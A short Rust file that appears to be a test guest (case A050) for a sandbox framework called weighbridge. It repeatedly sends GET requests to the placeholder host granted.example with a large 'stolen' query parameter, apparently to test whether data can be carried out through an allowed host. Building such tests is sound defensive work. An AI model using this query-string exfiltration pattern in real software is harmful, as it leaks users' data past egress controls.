//! A050: Writes what it knows into the queries of a granted host, as much as it can.
use weighbridge_guests::{guest, team};
use weighbridge_sdk::{Page, http};

guest!(pull: |_| {
    let url = format!("https://granted.example/v1/?stolen={}", "x".repeat(8_000));
    let carried = (0..50).filter(|_| http::get(&*url).send().is_ok()).count();
    Page::done(vec![team(carried.to_string())], &1)
});
